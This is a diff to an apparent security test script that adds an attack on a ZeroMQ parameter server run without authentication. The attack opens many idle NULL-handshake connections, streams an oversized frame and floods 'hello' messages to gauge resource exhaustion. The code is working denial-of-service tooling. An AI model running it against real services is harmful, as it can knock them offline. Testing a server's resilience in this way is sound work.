@@ -28,6 +28,7 @@ LARGE = 15 << 20  # bytes of a frame that ZeroMQ's own limit lets through
 WAIT_MS = 400
 LONGEST_S = 8.0  # less than ZeroMQ gives a handshake
 OF_AN_ADDRESS = 16
+OF_AN_ADDRESS_WITHOUT_SECRET = 64
 PROGRAM = "program p {pserver_id=0}\n  block 0\n    rpc\n      listen_and_serv()"
 
 
@@ -96,6 +97,36 @@ def left(made: Sequence[socket.socket], most: int) -> int:
     return count
 
 
+NULL = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
+TYPE = b"\x0bSocket-Type" + (6).to_bytes(4, "big") + b"DEALER"
+READY = bytes([4, 6 + len(TYPE)]) + b"\x05READY" + TYPE
+
+
+def shaken(endpoint: str, stack: ExitStack, count: int) -> list[socket.socket]:
+    """Opens connections that do ZeroMQ's handshake without a secret, and then say nothing."""
+    host, _, port = endpoint.rpartition(":")
+    made = []
+    for _ in range(count):
+        with suppress(OSError):
+            line = stack.enter_context(socket.create_connection((host, int(port))))
+            line.sendall(NULL + READY)
+            made.append(line)
+    return made
+
+
+def frame_poured(endpoint: str) -> int:
+    """Returns how many bytes of a message a connection took that had said no hello."""
+    took = 0
+    with ExitStack() as stack, suppress(OSError):
+        (line,) = shaken(endpoint, stack, 1)
+        line.sendall(b"\x02" + LARGE.to_bytes(8, "big"))
+        for _ in range(LARGE >> 16):
+            line.sendall(bytes(1 << 16))
+            took += 1 << 16
+            time.sleep(0.005)
+    return took
+
+
 def poured(endpoint: str) -> int:
     """Returns how many bytes of a handshake's frame a connection took before it was cut."""
     host, _, port = endpoint.rpartition(":")
@@ -119,6 +150,19 @@ def readable(folder: Path) -> list[str]:
         with suppress(OSError):
             found.append((one / "secret").read_text())
     return found
+
+
+def against_no_secret(endpoint: str) -> None:
+    """Attacks a server that was started with `--insecure`, and prints what came of it."""
+    with ExitStack() as stack:
+        kept = shaken(endpoint, stack, IDLE)
+        found: dict[str, Any] = {"user": os.getuid(), "opened": len(kept)}
+        found["left"] = left(kept, OF_AN_ADDRESS_WITHOUT_SECRET)
+        found["poured"] = frame_poured(endpoint)
+        body = {"protocol": PROTOCOL, "job": "another", "trainers": 2, "servers": [endpoint]}
+        hellos = [header("hello", at, {**body, "trainer": at % 2}) for at in range(200)]
+        found["answers"] = answers(f"tcp://{endpoint}", hellos, None)
+        print(json.dumps(found))  # noqa: T201
 
 
 def main(endpoint: str, folder: Path, seconds: float) -> None:
@@ -146,4 +190,7 @@ if __name__ == "__main__":
         os.setgroups([])
         os.setgid(NOBODY)
         os.setuid(NOBODY)
+    if sys.argv[2] == "--insecure":
+        against_no_secret(sys.argv[1])
+        sys.exit()
     main(sys.argv[1], Path(sys.argv[2]), float(sys.argv[3]) if len(sys.argv) > 3 else 0.0)
